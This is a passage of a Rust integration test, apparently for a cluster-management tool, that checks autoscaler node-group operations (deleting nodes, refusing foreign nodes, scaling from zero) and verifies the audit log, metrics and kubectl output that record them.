    let victim = pool_machines(&c).pop().unwrap();
    let victim_name = victim["metadata"]["name"].as_str().unwrap().to_owned();
    let node = victim["status"]["hostname"].as_str().unwrap().to_owned();
    ca.call(
        "NodeGroupDeleteNodes",
        serde_json::json!({"id": "auto/default",
            "nodes": [{"providerID": provider_id(&victim), "name": node}]}),
    )
    .ok();
    assert_eq!(target(), 2);
    wait_for("the machine back in its pool", BOOT, || {
        let m = c
            .machines()
            .into_iter()
            .find(|m| m["metadata"]["name"] == victim_name.as_str())
            .ok_or("gone")?;
        (m["status"]["phase"] == "Registered" && m["spec"]["assignment"].is_null())
            .then_some(())
            .ok_or(format!("{m:#}"))
    });
    wait_for("its Node gone", BOOT, || {
        let (all, _) = kube::nodes(&kubeconfig)?;
        (all.len() == 3 && !all.contains(&node))
            .then_some(())
            .ok_or(format!("{all:?}"))
    });
    c.wait_cluster_phase("auto", "Running", BOOT);
    assert_eq!(pool_machines(&c).len(), 2);
    // A Node of no group: refused, nothing deleted.
    ca.call(
        "NodeGroupDeleteNodes",
        serde_json::json!({"id": "auto/default",
            "nodes": [{"providerID": provider_id(&cp)}]}),
    )
    .refused("INVALID_ARGUMENT", "not in node group");
    assert_eq!(target(), 2);

    // Scale from zero: a pool of no machine takes its template from a
    // free machine it may claim, and scaling it up claims that machine.
    // (Another machine registers: cluster zero's control plane takes one.)
    let _fifth = Agent::start(&tmp.path().join("m4"), "auto-4", &boot);
    wait_registered(&c, 5);
    apply(
        &c,
        tmp.path(),
        &pool_cluster_yaml("zero", 1, 0, "dev").replace(
            "    - name: default\n      replicas: 0\n",
            "    - name: default\n      autoscaling: {minReplicas: 0, maxReplicas: 2}\n",
        ),
    );
    let zero = Autoscaler::for_cluster(&c, "zero", &tmp.path().join("zero-autoscaler"));
    let from_zero = zero.call(
        "NodeGroupTemplateNodeInfo",
        serde_json::json!({"id": "zero/default"}),
    );
    assert_eq!(from_zero.code, "OK", "{from_zero:?}");
    assert_eq!(
        from_zero.node["status"]["capacity"]["cpu"]["string"],
        host.0.to_string()
    );
    zero.call(
        "NodeGroupIncreaseSize",
        serde_json::json!({"id": "zero/default", "delta": 1}),
    )
    .ok();
    c.wait_cluster_phase("zero", "Running", BOOT);
    let workers = c
        .machines()
        .into_iter()
        .filter(|m| {
            m["spec"]["assignment"]["cluster"] == "zero"
                && m["spec"]["assignment"]["machinePool"] == "default"
                && m["status"]["phase"] == "Running"
        })
        .count();
    assert_eq!(workers, 1);

    // The autoscaler owns the count: kubectl shows it as its field, and
    // every call is in the audit log and counted.
    let coordinator_kc = tmp.path().join("coordinator.kubeconfig");
    std::fs::write(&coordinator_kc, c.cli_ok(&["kubeconfig", "--coordinator"])).unwrap();
    let managers = kubectl(
        &coordinator_kc,
        &[
            "get",
            "cluster",
            "auto",
            "-o",
            "jsonpath={.metadata.managedFields[*].manager}",
        ],
    )
    .unwrap();
    assert!(managers.contains("cluster-autoscaler"), "{managers}");
    let described = c.cli_ok(&["describe", "cluster", "auto"]);
    assert!(
        described.contains("├─ default: 2/2 running, 2 assigned, autoscaled 1..4, replicas set by cluster-autoscaler at "),
        "{described}"
    );
    let audit = c.cli_ok(&["audit", "--limit", "200"]);
    assert!(
        audit.contains("autoscaler:auto")
            && audit.contains("CloudProvider/NodeGroupIncreaseSize")
            && audit.contains("autoscaler:other"),
        "{audit}"
    );
    assert!(
        c.metric(r#"drover_autoscaler_calls_total{method="NodeGroupIncreaseSize",code="ok"}"#)
            >= 2.0
    );
    assert!(
        c.metric(
            r#"drover_autoscaler_calls_total{method="NodeGroupTargetSize",code="permission_denied"}"#
        ) >= 1.0
    );
}

/// This host's CPUs and memory in bytes, as an agent on it reports them.
fn host_capacity() -> (usize, u64) {
    let cpus = std::thread::available_parallelism().unwrap().get();
    let meminfo = std::fs::read_to_string("/proc/meminfo").unwrap();
    let kb: u64 = meminfo
        .lines()
        .find_map(|l| l.strip_prefix("MemTotal:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap();
    (cpus, kb * 1024)
}
